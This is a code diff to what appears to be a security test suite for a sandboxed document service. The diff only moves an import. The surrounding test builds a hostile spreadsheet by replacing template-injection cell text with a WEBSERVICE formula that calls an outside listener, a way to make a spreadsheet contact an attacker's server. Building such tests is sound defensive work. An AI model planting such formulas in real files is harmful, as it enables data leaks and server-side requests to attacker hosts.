@@ -18,7 +18,7 @@ from service.chamber.parent import run_task
 from service.chamber.tasks import AssembleResult, AssembleTask, FileRef, UploadRef
 from tests.hostile import office_files, pdf_files
 from tests.hostile.outside import SECRET, Outside, listening, words_of
-from tests.hostile.zips import rewritten
+from tests.hostile.zips import entries_of, rewritten
 from tests.journeys.hostile_texts import hostile_narrative, hostile_plan
 from tests.journeys.small_upload import CODE, REGION
 from tests.read.narratives import NS, run
@@ -86,7 +86,7 @@ def _workbook(plan: Plan, outside: Outside) -> bytes:
     content = build_canvas(REGION, territory=REGION.territory(CODE), plan=plan)
     text = re.compile(rb'<c r="([A-Z]+\d+)"([^>]*?) t="inlineStr"><is><t[^>]*>(\{\{ 7\*7 \}\} n\d+)</t></is></c>')
     formula = rb'<c r="\1"\2 t="str"><f>WEBSERVICE("%s/")</f><v>\3</v></c>' % outside.address.encode()
-    sheets = [name for name in office_files.entries_of(content) if name.startswith("xl/worksheets/sheet")]
+    sheets = [name for name in entries_of(content) if name.startswith("xl/worksheets/sheet")]
     asking = rewritten(content, {name: lambda xml: text.sub(formula, xml) for name in sheets})
     assert asking != rewritten(content, dict.fromkeys(sheets, bytes))
     return asking
